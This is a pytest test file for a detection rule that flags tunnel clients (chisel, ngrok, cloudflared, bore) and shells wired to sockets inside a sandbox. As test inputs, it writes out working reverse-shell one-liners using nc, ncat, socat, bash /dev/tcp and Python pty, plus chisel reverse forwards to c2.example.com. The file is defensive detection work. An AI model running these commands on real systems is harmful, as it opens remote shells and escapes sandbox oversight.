"""tunnel.other: tunnel clients that expose the sandbox, and shells wired to sockets."""

from __future__ import annotations

import shlex

import pytest
from hypothesis import given
from hypothesis import strategies as st
from shipped_rules import context_for

from ebpfguard.detect.tunnel_other import OtherTunnel

RULE = OtherTunnel(context_for("tunnel.other"))


def run(command_line: str, **extra) -> list:
    argv = shlex.split(command_line)
    return list(RULE.on_event({"kind": "exec", "argv": argv, **extra}))


@pytest.mark.parametrize("command_line, technique", [
    ("chisel client https://c2.example.com R:2222:localhost:22", "reverse_forward"),
    ("chisel client --auth u:p c2.example.com:443 R:socks", "reverse_forward"),
    ("frpc -c /etc/frp/frpc.toml", "expose_service"),
    ("ngrok http 8080", "expose_service"),
    ("ngrok --config /tmp/n.yml tcp 22", "expose_service"),
    ("cloudflared tunnel --url http://localhost:8000", "expose_service"),
    ("cloudflared tunnel run --token eyJh", "expose_service"),
    ("cloudflared service install eyJh", "expose_service"),
    ("bore local 8000 --to bore.pub", "expose_service"),
    ("lt --port 8000 --subdomain agent", "expose_service"),
    ("npx localtunnel --port 8000", "expose_service"),
    ("code tunnel --accept-server-license-terms --name box", "expose_service"),
    ("code tunnel service install", "expose_service"),
    ("socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:10.0.0.1:4444",
     "exec_to_network"),
    ("socat TCP-LISTEN:4444,reuseaddr,fork SYSTEM:/bin/sh", "exec_to_network"),
    ("nc -e /bin/sh 10.0.0.1 4444", "exec_to_network"),
    ("nc -lvnp 4444 -e /bin/bash", "exec_to_network"),
    ("nc -nve/bin/sh 10.0.0.1 4444", "exec_to_network"),
    ("ncat --exec /bin/bash 10.0.0.1 4444", "exec_to_network"),
    ("ncat --sh-exec='sh -i' 10.0.0.1 4444", "exec_to_network"),
    ("busybox nc 10.0.0.1 4444 -e sh", "exec_to_network"),
    ("bash -c 'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1'", "shell_redirect"),
    ("sh -c 'exec 5<>/dev/tcp/10.0.0.1/4242; cat <&5 | while read l; do $l 2>&5 >&5; done'",
     "shell_redirect"),
    ("python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4242));"
     "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'", "inline_reverse_shell"),
])
def test_tunnels_are_found(command_line, technique):
    [finding] = run(command_line)
    assert finding.evidence["technique"] == technique


def test_shells_on_sockets_are_critical():
    [finding] = run("nc -e /bin/sh 10.0.0.1 4444")
    assert finding.severity == "critical"
    [finding] = run("ngrok http 80")
    assert finding.severity is None  # the rule's own


@pytest.mark.parametrize("command_line", [
    "chisel server --reverse --port 8080",
    "chisel client https://c2.example.com 3000 socks",
    "kubectl port-forward pod/web 8080:80",
    "sshuttle -r user@bastion 10.0.0.0/8",
    "frpc --version",
    "ngrok config add-authtoken 2abc",
    "cloudflared tunnel list",
    "cloudflared access tcp --hostname ssh.example.com --url localhost:2222",
    "bore server",
    "code --install-extension ms-python.python",
    "code tunnel status",
    "socat TCP-LISTEN:8080,fork TCP:localhost:80",
    "nc -zv db 5432",
    "nc -X connect -x proxy:3128 example.com 22",
    "ncat -C mail.example.com 25",
    "bash -c 'timeout 1 bash -c \"</dev/tcp/db/5432\"'",
    "bash -c 'exec 3<>/dev/tcp/example.com/80; echo -e \"GET / HTTP/1.0\\r\\n\" >&3; cat <&3'",
    "python3 -c 'import socket; print(socket.gethostname())'",
])
def test_local_forwards_servers_and_everyday_commands_are_not_tunnels(command_line):
    assert run(command_line) == []


def test_failed_exec_is_not_counted():
    assert run("ngrok http 80", retval=-13) == []


@given(st.sampled_from(["chisel", "frpc", "ngrok", "cloudflared", "bore", "lt", "code",
                        "socat", "nc", "bash", "python3", "npx", "busybox"]),
       st.lists(st.text(max_size=12), max_size=8))
def test_any_argv_is_classified_without_error(program, args):
    list(RULE.on_event({"kind": "exec", "argv": [program, *args]}))
